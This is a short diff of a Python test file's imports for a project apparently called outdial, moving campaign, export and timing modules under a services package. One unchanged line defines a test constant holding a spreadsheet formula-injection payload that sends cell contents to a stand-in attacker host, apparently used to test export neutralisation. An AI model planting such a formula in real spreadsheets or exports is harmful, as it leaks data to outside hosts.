@@ -12,14 +12,14 @@ import pytest
 from sqlalchemy import Engine
 from typer.testing import CliRunner
 
-from intake.campaigns import LeadIn, add_leads, create_campaign
 from outdial.cli import app as cli
-from outdial.export import neutralise
 from outdial.models import JobState
+from outdial.services.campaigns import LeadIn, add_leads, create_campaign
+from outdial.services.export import neutralise
+from outdial.services.timing.spec import TimingFields
 from outdial.settings import Settings
 from outdial.store import campaigns as campaign_store
 from outdial.store import jobs as job_store
-from scheduler.spec import TimingFields
 
 INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
